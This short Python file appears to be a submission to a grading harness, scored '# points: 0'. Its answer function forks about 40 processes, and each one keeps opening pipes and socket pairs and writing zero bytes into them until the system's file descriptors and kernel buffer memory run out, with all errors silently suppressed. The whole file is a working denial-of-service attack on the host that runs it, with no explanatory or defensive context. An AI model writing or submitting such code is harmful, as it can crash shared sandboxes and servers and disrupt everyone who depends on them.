# points: 0
import contextlib
import os
import socket


def answer(request):
    """Each process fills as many pipes and sockets as it may have."""
    for _ in range(40):
        if os.fork() == 0:
            break
    with contextlib.suppress(OSError):
        while True:
            fill(os.pipe()[1])
            fill(socket.socketpair()[0].detach())
    return b""


def fill(fd):
    os.set_blocking(fd, False)
    with contextlib.suppress(BlockingIOError):
        while True:
            os.write(fd, bytes(65536))
